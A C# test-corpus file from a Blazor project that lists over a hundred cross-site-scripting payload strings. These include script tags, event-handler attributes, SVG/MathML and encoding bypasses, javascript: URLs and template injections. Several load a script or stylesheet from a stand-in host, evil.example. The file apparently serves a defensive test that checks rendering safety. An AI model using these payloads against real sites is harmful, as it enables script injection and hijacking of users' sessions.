namespace BlazorSalesProject.Journeys.Screens;

/// <summary>Texts that would run as a script, or become an element, on a page that shows them carelessly (reliability test IN-1).</summary>
internal static class ScriptCorpus
{
    private const string Run = "window.__x=1";

    /// <summary>All of them; each sets <c>window.__x</c> or opens a dialog when it runs.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        $"<script>{Run}</script>", $"<ScRiPt>{Run}</sCrIpT>", $"<script >{Run}</script >", $"<script/x>{Run}</script>", $"<script\n>{Run}</script\n>", $"</title><script>{Run}</script>", $"</textarea><script>{Run}</script>",
        $"</style><script>{Run}</script>", $"</noscript><script>{Run}</script>", $"</template><script>{Run}</script>", $"--><script>{Run}</script>", $"]]><script>{Run}</script>", $"*/</script><script>{Run}</script>",
        $"\"><script>{Run}</script>", $"'><script>{Run}</script>", $"`><script>{Run}</script>", $"<scr<script>ipt>{Run}</scr</script>ipt>", $"<<script>{Run}//<</script>", "<script src=//evil.example/x.js></script>", "<script src=data:text/javascript,window.__x=1></script>",
        $"<img src=x onerror={Run}>", $"<img src=x onerror=\"{Run}\">", $"<img/src=x/onerror={Run}>", $"<IMG SRC=x ONERROR={Run}>", $"<img src=x\tonerror\n=\n{Run}>", $"<img src='x' onerror='alert(1)'>", "<img src=\"javascript:alert(1)\">", $"<img srcset=x onerror={Run}>",
        $"\" onmouseover={Run} x=\"", $"' onfocus={Run} autofocus x='", $"\" autofocus onfocus={Run} tabindex=0 \"", $"\" style=\"animation-name:x\" onanimationstart={Run} \"", $"x\" onerror=\"{Run}", $"\"/onload={Run}//",
        $"<svg onload={Run}>", $"<svg/onload={Run}>", $"<svg><script>{Run}</script></svg>", $"<svg><script href=data:,{Run} /></svg>", $"<svg><animate onbegin={Run} attributeName=x dur=1s>", $"<svg><set onbegin={Run}>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        $"<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>{Run}</script></svg>#x\">", $"<svg><foreignObject><iframe onload={Run}></iframe></foreignObject></svg>", $"<svg><style><img src=x onerror={Run}></style></svg>",
        $"<math><mtext><table><mglyph><style><img src=x onerror={Run}>", $"<math><maction actiontype=statusline xlink:href=javascript:{Run}>x</maction></math>", $"<form><math><mtext></form><form><mglyph><style></math><img src onerror={Run}>",
        $"<iframe src=javascript:{Run}></iframe>", $"<iframe srcdoc=\"<script>parent.__x=1</script>\"></iframe>", $"<iframe onload={Run}></iframe>", "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        $"<body onload={Run}>", $"<input autofocus onfocus={Run}>", $"<select autofocus onfocus={Run}>", $"<textarea autofocus onfocus={Run}>", $"<details open ontoggle={Run}>x</details>", $"<video src=x onerror={Run}></video>", $"<audio src=x onerror={Run}></audio>", $"<video><source onerror={Run}></video>",
        $"<marquee onstart={Run}>x</marquee>", $"<div onpointerover={Run} style=position:fixed;inset:0>x</div>", $"<x contenteditable onblur={Run}>x</x>", $"<style>@keyframes x{{}}</style><xss style=animation-name:x onanimationend={Run}></xss>", $"<button popovertarget=x>x</button><xss onbeforetoggle={Run} popover id=x>x</xss>",
        "<a href=javascript:alert(1)>x</a>", "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\" &#14; javascript:alert(1)\">x</a>", "<a href=&#106;avascript:alert(1)>x</a>", "<a href=data:text/html,<script>alert(1)</script>>x</a>", "<a href=vbscript:msgbox(1)>x</a>",
        "<form action=javascript:alert(1)><button>x</button></form>", "<button form=x formaction=javascript:alert(1)>x</button>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import'//evil.example/x.css';</style>",
        $"<template><script>{Run}</script></template>", $"<noscript><p title=\"</noscript><img src=x onerror={Run}>\">", $"<listing>&lt;img src=x onerror={Run}&gt;</listing>", $"<xmp><p title=\"</xmp><img src=x onerror={Run}>\">", $"<textarea><p title=\"</textarea><img src=x onerror={Run}>\">", $"<!--><img src=x onerror={Run}>-->", $"<!-- --!><img src=x onerror={Run}>",
        $"&lt;script&gt;{Run}&lt;/script&gt;", $"&#60;script&#62;{Run}&#60;/script&#62;", $"%3Cscript%3E{Run}%3C/script%3E", $"\\u003cscript\\u003e{Run}\\u003c/script\\u003e", $"\\x3cscript\\x3e{Run}", $"\uFF1Cscript\uFF1E{Run}\uFF1C/script\uFF1E", $"+ADw-script+AD4-{Run}+ADw-/script+AD4-",
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript://%0aalert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{7*7}", "@Html.Raw(\"<script>alert(1)</script>\")", "<!--Blazor:{\"type\":\"server\"}-->", "<component type=\"typeof(App)\" />",
        $"{new string('<', 60)}img src=x onerror={Run}>", string.Concat(Enumerable.Repeat("<b>", 40)) + $"<img src=x onerror={Run}>",
    ];
}
